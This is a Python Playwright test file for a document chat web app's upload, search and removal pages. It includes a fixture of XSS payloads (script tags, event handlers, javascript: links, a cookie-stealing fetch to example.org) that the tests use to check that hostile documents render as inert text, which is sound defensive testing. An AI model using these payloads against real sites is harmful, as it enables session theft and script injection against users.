"""The chat page: documents listed, searched, added and removed, and hostile ones that run nothing."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

from playwright.sync_api import Page, Route, expect

from tests.faces.web.browsing import ask, highlighted, squeezed, start, unaccessible
from tests.faces.web.serving import Served
from tests.pages import pages

HOSTILE = """# <img src=x onerror=alert(1)> Notes on the ferry <script>alert(document.domain)</script>

<script>fetch('https://example.org/?' + document.cookie)</script>
<img src="https://example.org/pixel.png" onerror="alert('onerror')">
<a href="javascript:alert('link')">click</a> [click](javascript:alert(1)) <svg onload=alert(2)>
<iframe src="https://example.org/"></iframe><style>body { display: none }</style>

The ferry of Lorch costs 7 euros <b onmouseover="alert(3)">today</b> <script>alert(4)</script>.
"""


def upload(page: Page, *files: Path) -> None:
    """Adds files by the button, and waits until they are indexed."""
    with page.expect_file_chooser() as chosen:
        page.get_by_role("button", name="Choose files").click()
    chosen.value.set_files(files)
    page.locator(".upload .what", has_text="ready to be asked").first.wait_for()


def test_a_newcomer_adds_a_first_document_and_asks_about_it(page: Page, tmp_path: Path) -> None:
    """An empty corpus offers to add documents; what is added can be asked about at once, and is listed."""
    (tmp_path / "garden.md").write_text("# The garden\n\nThe pond of the garden was dug in 1954.\n")
    start(page, "/?corpus=first")
    expect(page.locator(".empty")).to_contain_text("There are no documents yet.")
    with page.expect_file_chooser() as chosen:
        page.get_by_role("button", name="Add documents").click()
    chosen.value.set_files(tmp_path / "garden.md")
    expect(page.locator(".upload .what")).to_have_text("1 file ready to be asked about.")
    expect(page.locator(".outcome")).to_contain_text("garden.md added")
    expect(page.locator(".documents li")).to_have_count(1)
    expect(page.locator(".documents li")).to_contain_text("The garden")
    page.get_by_role("button", name="Ask about it").click()
    expect(page.get_by_label("Your question")).to_be_focused()
    expect(page.locator(".example").first).to_have_text("When was the pond of the garden dug?")
    answer = ask(page, "When was the pond dug?")
    assert answer["points"][0]["short"] == "1954"
    expect(page.locator(".short-answer")).to_have_text("1954")


def test_files_can_be_dropped_anywhere(page: Page) -> None:
    """Dropped on the chat, files are added, and the page stays."""
    start(page, "/?corpus=dropped")
    page.evaluate("""() => {
        const carried = new DataTransfer();
        carried.items.add(new File(['# Dropped\\n\\nThe kiln of Bray is red.\\n'], 'kiln.md'));
        carried.items.add(new File(['MZ'], 'setup.exe'));
        const over = new DragEvent('dragover', { dataTransfer: carried, bubbles: true, cancelable: true });
        const drop = new DragEvent('drop', { dataTransfer: carried, bubbles: true, cancelable: true });
        document.querySelector('.composer').dispatchEvent(over);
        document.querySelector('.composer').dispatchEvent(drop);
    }""")
    expect(page.locator(".upload .what")).to_have_text("1 file ready to be asked about, 1 skipped.")
    skipped = page.locator(".outcome li", has_text="setup.exe")
    expect(skipped).to_contain_text("skipped")
    assert len(skipped.inner_text()) > len("setup.exe skipped "), "says why"
    expect(page.locator(".documents li")).to_have_count(1)


def test_a_hostile_document_is_shown_as_the_text_it_is(page: Page, served: Served, tmp_path: Path) -> None:
    """Scripts, handlers and links of a document are words: nothing runs, nothing is fetched, nothing is clickable.

    That nothing ran and nothing was fetched, the fixture asserts for every page.
    """
    (tmp_path / "<img src=x onerror=alert(5)>.md").write_text(HOSTILE)
    start(page, "/?view=documents&corpus=hostile")
    upload(page, tmp_path / "<img src=x onerror=alert(5)>.md")
    expect(page.locator(".documents li")).to_contain_text("<img src=x onerror=alert(5)>.md")
    page.locator(".documents .cite").click()
    expect(page.locator("#source .text")).to_contain_text("The ferry of Lorch costs 7 euros today")
    drawn = page.locator("#source .text *").evaluate_all("all => all.map(each => each.localName)")
    assert set(drawn) <= {"h3", "p"}
    attributes = page.locator("#source .text *").evaluate_all("all => all.flatMap(each => each.getAttributeNames())")
    assert set(attributes) <= {"class"}
    page.get_by_role("link", name="New conversation").click()
    answer = ask(page, "How much does the ferry of Lorch cost?")
    expect(page.locator(".turn .quote").first).to_contain_text("costs 7 euros today")
    page.locator(".turn .cite").first.click()
    assert squeezed(highlighted(page)) == squeezed(answer["quotes"][0]["plain"])
    page.locator("#source mark.here").first.hover()
    page.goto("/?view=documents&corpus=hostile")
    page.get_by_label("Search names and texts").fill("ferry")
    expect(page.locator(".passages .excerpt").first).to_contain_text("<script>")
    inside = "script:not([src]), iframe, img, [onerror], [onmouseover], a[href^='javascript' i], style"
    assert page.locator(f"body :is({inside})").count() == 0


def test_a_hostile_address_is_no_link(page: Page, served: Served) -> None:
    """A document's address is followed only where it is http or https."""
    document = served.client.get("/api/documents").json()["documents"][0]
    page.route(
        "**/api/documents/feed*",
        lambda route: route.fulfill(json={**document, "id": "feed", "url": "javascript:alert(6)", "text": "One"}),
    )
    block = {"kind": "paragraph", "start": 0, "end": 3, "level": 0, "depth": 0, "quoted": 0, "mark": ""}
    lists: dict[str, list[object]] = {"cells": [], "hidden": [], "entities": [], "styles": []}
    page.route(
        "**/api/documents/feed/blocks*",
        lambda route: route.fulfill(json={"start": 0, "end": 3, "blocks": [{**block, **lists}]}),
    )
    page.goto("/?document=feed&start=0&end=3&corpus=addresses")
    assert highlighted(page) == "One"
    expect(page.locator("#source .facts")).to_contain_text("javascript:alert(6)")
    assert page.locator("#source .facts a").count() == 0


def test_an_uploaded_document_can_be_removed(page: Page, tmp_path: Path) -> None:
    """Only when it is confirmed; then it is gone from the list and from the answers."""
    (tmp_path / "key.md").write_text("# The key\n\nThe key of the shed lies under the blue pot.\n")
    start(page, "/?view=documents&corpus=removing")
    upload(page, tmp_path / "key.md")
    remove = page.get_by_role("button", name="Remove The key")
    remove.click()
    page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
    expect(page.locator(".documents li")).to_have_count(1)
    remove.click()
    page.get_by_role("dialog").get_by_role("button", name="Remove").click()
    expect(page.locator(".notice")).to_have_text("key.md is removed.")
    expect(page.locator(".documents li")).to_have_count(0)


def test_removing_what_a_folder_holds_says_how_long_it_lasts(page: Page, served: Served, seeded: Path) -> None:
    """A document that an indexed folder still holds stays removed until it changes, and the page says so."""
    shutil.copytree(seeded.parent / "untouched" / "default", served.home / "corpora" / "papers")
    start(page, "/?view=documents&corpus=papers")
    remove = page.locator(".documents li").get_by_role("button")
    expect(remove).to_have_count(5)
    remove.first.click()
    page.get_by_role("dialog").get_by_role("button", name="Remove").click()
    expect(page.locator(".notice")).to_contain_text("stays removed until the file changes")
    expect(remove).to_have_count(4)


def test_a_start_fetches_no_whole_list(page: Page, served: Served) -> None:
    """A newcomer is shown some documents and two numbers: no more is fetched than that."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    with page.expect_response(lambda response: "api/disagreements" in response.url):
        start(page, "/")
    lists = [url for url in asked if re.search(r"/api/(documents|disagreements)\?", url)]
    assert lists
    for url in lists:
        assert int(re.search(r"[?&]limit=(\d+)", url)[1]) <= 20  # type: ignore[index]
    count = served.client.get("/api/documents").json()["count"]
    expect(page.locator("#document-count")).to_have_text(str(count))


def test_a_long_list_of_documents_goes_on_when_it_is_asked_to(page: Page, served: Served) -> None:
    """The first page with the number of all, and a button for more, until there are none; each document once."""

    def shorter(route: Route) -> None:
        address = route.request.url
        route.continue_(url=address if "limit=" in address else f"{address}{'&' if '?' in address else '?'}limit=2")

    page.route("**/api/documents*", shorter)
    start(page, "/?view=documents")
    named = [each["title"] for each in served.client.get("/api/documents").json()["documents"]]
    assert len(named) > 4
    items, more = page.locator(".documents li"), page.get_by_role("button", name="Show more documents")
    expect(items).to_have_count(2)
    expect(page.get_by_text(f"{len(named)} documents", exact=True)).to_be_visible()
    for shown in range(4, len(named) + 2, 2):
        more.click()
        expect(items).to_have_count(min(shown, len(named)))
        expect(items.nth(shown - 2).locator("a")).to_be_focused()
    expect(more).to_be_hidden()
    assert items.locator(".title").all_inner_texts() == named


def test_names_and_texts_can_be_searched(page: Page) -> None:
    """The list keeps what is named like that; below are passages about it, which open where they stand."""
    start(page, "/?view=documents")
    expect(page.locator(".documents li")).not_to_have_count(0)
    page.get_by_label("Search names and texts").fill("Milestone")
    expect(page.locator(".documents li")).to_have_count(1)
    first = page.locator(".passages li").first
    words = first.locator(".excerpt").inner_text()
    first.get_by_role("link").click()
    assert squeezed(highlighted(page)) == squeezed(words)


def test_a_web_page_is_added_by_its_address(page: Page) -> None:
    """Of this machine none is fetched, and the page says why; what is no address is not even sent."""
    with pages() as server:
        start(page, "/?view=documents&corpus=pages")
        page.get_by_label("Or the address of a web page").fill(server.put("/", "The vault opens at noon."))
        page.keyboard.press("Enter")
        expect(page.locator(".upload .what")).to_have_text("0 pages ready to be asked about, 1 skipped.")
        expect(page.locator(".outcome li")).to_contain_text("not in the public internet")
        assert server.asked == []
        page.get_by_label("Or the address of a web page").fill("notes.txt")
        page.keyboard.press("Enter")
        expect(page.locator(".upload")).to_have_count(1)
        assert not unaccessible(page)


def test_an_upload_is_seen_again_after_a_reload_and_can_be_cancelled(
    page: Page, served: Served, tmp_path: Path
) -> None:
    """A job that is under way is shown with how far it is; what is cancelled is not indexed."""
    files = [tmp_path / f"note-{n}.md" for n in range(20)]
    for n, file in enumerate(files):
        file.write_text(f"# Note {n}\n\n" + f"The mill of Tarn number {n} was built in 1954. " * 1500)
    start(page, "/?view=documents&corpus=cancelled")
    with page.expect_file_chooser() as chosen:
        page.get_by_role("button", name="Choose files").click()
    chosen.value.set_files(files)
    page.locator(".upload .what", has_text="Indexing").wait_for()
    page.reload()
    page.locator(".upload .what", has_text="Indexing").wait_for()
    page.get_by_role("button", name="Cancel").click()
    expect(page.locator(".upload .what")).to_contain_text("skipped")
    expect(page.locator(".outcome")).to_contain_text("It was cancelled before it was indexed.")
    (job, *_) = served.client.get("/api/jobs").json()["jobs"]
    assert job["state"] == "cancelled"
    listed = served.client.get("/api/documents?corpus=cancelled").json()["count"]
    assert listed == sum(file["state"] == "added" for file in job["files"]) < len(files)


def test_one_failed_question_after_a_job_is_nothing_to_tell(page: Page, tmp_path: Path) -> None:
    """The server is asked again how far it is."""
    (tmp_path / "barn.md").write_text("# The barn\n\nThe barn of Bray was built in 1950.\n")
    start(page, "/?view=documents&corpus=poll")
    page.route("**/api/jobs/*", lambda route: route.abort(), times=2)
    upload(page, tmp_path / "barn.md")
    expect(page.get_by_role("alert")).to_have_count(0)


def test_a_new_collection_invites_a_drop_and_takes_a_folder(page: Page, tmp_path: Path) -> None:
    """It is listed once it has documents; files of one name in two folders are two documents, hidden ones are left."""
    for name in ("rules/readme.md", "plans/readme.md", "plans/.git/notes.md"):
        (tmp_path / "all" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "all" / name).write_text(f"# On {name}\n\nThe mill of {name} was built in 1954.\n")
    start(page)
    page.get_by_role("button", name="New collection").click()
    page.get_by_role("dialog").get_by_label("Name").fill("my-folder")
    page.keyboard.press("Enter")
    expect(page.locator(".dropzone")).to_contain_text("No documents yet. Drop the first ones here, or choose them")
    expect(page.get_by_label("Collection")).to_have_value("my-folder")
    with page.expect_file_chooser() as chosen:
        page.get_by_role("button", name="Choose a folder").click()
    chosen.value.set_files(tmp_path / "all")
    expect(page.locator(".upload .what")).to_have_text("2 files ready to be asked about.")
    expect(page.locator(".documents li")).to_have_count(2)
    expect(page.locator(".dropzone")).to_contain_text("Drop files here, or choose them")
    page.reload()
    expect(page.get_by_label("Collection")).to_have_value("my-folder")


def test_what_others_say_is_counted_on_each_document(page: Page, served: Served) -> None:
    """Supporting quotes are shown beside those they support, contrasting ones lead to the disagreements."""
    for name, text in (
        ("rules.md", "# Rules\n\nWe answer customers within two working days.\n"),
        ("news.md", "# News\n\nCustomers get an answer within two working days.\n"),
        ("desk.md", "# Desk\n\nWe answer customers within one working day.\n"),
        ("moor.md", "# Moor\n\nIt rained on the moor.\n"),
    ):
        served.upload(name, text.encode(), corpus="counted")
    served.disagreements(corpus="counted")
    start(page, "/?view=documents&corpus=counted")
    rows = page.locator(".documents > li")
    expect(rows).to_have_count(4)
    rules, moor = rows.filter(has_text="Rules"), rows.filter(has_text="Moor")
    expect(moor.locator(".tally")).to_have_count(0)
    expect(rules.locator(".tally")).to_contain_text("1 supporting")
    expect(rules.locator(".tally")).to_contain_text("1 contrasting")
    chip = rules.get_by_role("button", name="1 supporting quote of Rules")
    chip.focus()
    page.keyboard.press("Enter")
    expect(rules.locator(".support .side").first).to_contain_text("We answer customers within two working days.")
    expect(rules.locator(".support .side").last).to_contain_text("Customers get an answer within two working days.")
    assert unaccessible(page) == []
    rules.locator(".support .cite").last.click()
    assert highlighted(page) == "Customers get an answer within two working days."
    expect(page.locator("#source .facts")).to_contain_text("1 supporting")
    page.keyboard.press("Escape")
    chip.click()
    expect(rules.locator(".support")).to_be_hidden()
    rules.get_by_role("link", name="1 contrasting quote of Rules").click()
    expect(page.get_by_label("Document", exact=True)).to_have_value("rules.md")
    expect(page.locator(".case")).to_have_count(1)


def test_counts_come_when_all_is_compared(page: Page, tmp_path: Path) -> None:
    """Without a reload."""
    (tmp_path / "rules.md").write_text("# Rules\n\nWe answer customers within two working days.\n")
    (tmp_path / "desk.md").write_text("# Desk\n\nWe answer customers within one working day.\n")
    start(page, "/?view=documents&corpus=compared")
    upload(page, tmp_path / "rules.md", tmp_path / "desk.md")
    expect(page.locator(".tally")).to_have_text([re.compile("1 contrasting")] * 2)


def test_documents_are_sorted_filtered_and_removed_together(page: Page, served: Served) -> None:
    """By date and length, by where they are from; what is ticked is removed after one question."""
    for name, year, words in (("a.md", 2019, 9), ("b.md", 2024, 1), ("c.md", 2021, 40)):
        text = f"---\ndate: {year}-05-01\n---\n# Note {name}\n\n" + "The mill of Tarn was built in 1954. " * words
        served.upload(name, text.encode(), corpus="many")
    start(page, "/?view=documents&corpus=many")
    titles = page.locator(".documents .title")
    expect(titles).to_have_text(["Note a.md", "Note b.md", "Note c.md"])
    page.get_by_label("Order").select_option("newest")
    expect(titles).to_have_text(["Note b.md", "Note c.md", "Note a.md"])
    page.get_by_label("Order").select_option("longest")
    expect(titles).to_have_text(["Note c.md", "Note a.md", "Note b.md"])
    page.get_by_label("Where from").select_option("folder")
    expect(titles).to_have_count(0)
    page.get_by_label("Where from").select_option("uploaded")
    page.get_by_label("Choose Note a.md").check()
    page.get_by_label("Choose Note b.md").check()
    page.get_by_role("button", name="Remove 2 documents").click()
    page.get_by_role("dialog").get_by_role("button", name="Remove").click()
    expect(titles).to_have_text(["Note c.md"])
    assert served.client.get("/api/documents?corpus=many").json()["count"] == 1
